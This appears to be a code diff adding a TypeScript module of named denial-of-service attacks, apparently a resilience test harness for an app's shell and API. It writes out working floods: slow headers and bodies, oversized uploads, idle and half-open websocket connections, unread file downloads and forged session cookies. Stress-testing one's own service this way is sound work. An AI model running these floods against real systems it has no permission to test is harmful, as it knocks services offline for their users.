@@ -1,0 +1,87 @@
+import { flood, type FloodOptions, type Tally } from './sockets.ts';
+
+export interface Target {
+  shell: URL;
+  api: URL;
+  /** Path of a large file, on the shell. */
+  largeFile: string;
+}
+type Attack = (target: Target, tally: Tally, signal: AbortSignal) => Promise<void>;
+
+const MANY = 2000;
+const UPGRADES = 20_000;
+const CALLERS = 50;
+const MEGABYTE = 1_000_000;
+
+const head = (line: string, headers: string) => `${line} HTTP/1.1\r\nhost: localhost\r\n${headers}`;
+const JSON_BODY = 'content-type: application/json\r\n';
+const UPGRADE = 'connection: Upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\n';
+
+const sockets =
+  (optionsOf: (target: Target) => Omit<FloodOptions, 'target'>): Attack =>
+  (target, tally, signal) =>
+    flood({ target: target.shell, ...optionsOf(target) }, tally, signal);
+
+/** Calls in a loop, from 50 callers. */
+const calls =
+  (callOf: (target: Target, index: number) => { url: URL; init?: RequestInit }): Attack =>
+  async (target, tally, signal) => {
+    const call = async () => {
+      while (!signal.aborted) {
+        const { url, init } = callOf(target, tally.opened);
+        tally.opened += 1;
+        const answer = await fetch(url, init).then(
+          async (response) => (await response.arrayBuffer(), String(response.status)),
+          () => 'none',
+        );
+        tally.answers[answer] = (tally.answers[answer] ?? 0) + 1;
+      }
+    };
+    await Promise.all(Array.from({ length: CALLERS }, call));
+  };
+
+/** By name; each goes on until it is stopped. */
+export const attacks: Record<string, Attack> = {
+  'slow bodies': sockets(() => ({
+    sockets: MANY,
+    head: head('POST /api/login', `${JSON_BODY}content-length: 200\r\n\r\n`),
+    drip: { text: ' ', everyMs: 10_000 },
+  })),
+  'slow uploads': sockets(() => ({
+    sockets: MANY,
+    head: head('POST /api/releases', `${JSON_BODY}content-length: 20000000\r\n\r\n`),
+    drip: { text: ' ', everyMs: 10_000 },
+  })),
+  'bodies of a megabyte': sockets(() => ({
+    sockets: 400,
+    head: head('POST /api/login', `${JSON_BODY}content-length: ${MEGABYTE}\r\n\r\n${' '.repeat(MEGABYTE - 1)}`),
+  })),
+  'slow headers': sockets(() => ({
+    sockets: MANY,
+    head: head('GET /', ''),
+    drip: { text: 'x: y\r\n', everyMs: 3000 },
+  })),
+  'silent connections': sockets(() => ({ sockets: MANY, head: '' })),
+  'upgrades of pages': sockets(() => ({
+    sockets: MANY,
+    total: UPGRADES,
+    head: head('GET /', `${UPGRADE}sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n`),
+  })),
+  'half-open upgrades of the socket': sockets(() => ({
+    sockets: MANY,
+    total: UPGRADES,
+    head: head('GET /socket.io/?EIO=4&transport=websocket', `${UPGRADE}\r\n`),
+  })),
+  'files that nobody reads': sockets(({ largeFile }) => ({
+    sockets: 400,
+    head: head(`GET ${largeFile}`, '\r\n'),
+    readsNothing: true,
+  })),
+  'releases that do not exist': calls(({ shell }, index) => ({
+    url: new URL(`/releases/mfe-games/1.0.0+${index.toString(16).padStart(12, '0')}/remoteEntry.js`, shell),
+  })),
+  'forged sessions': calls(({ shell }, index) => ({
+    url: new URL('/api/session/refresh', shell),
+    init: { method: 'POST', headers: { cookie: `mindgrove_refresh=${index}` } },
+  })),
+};
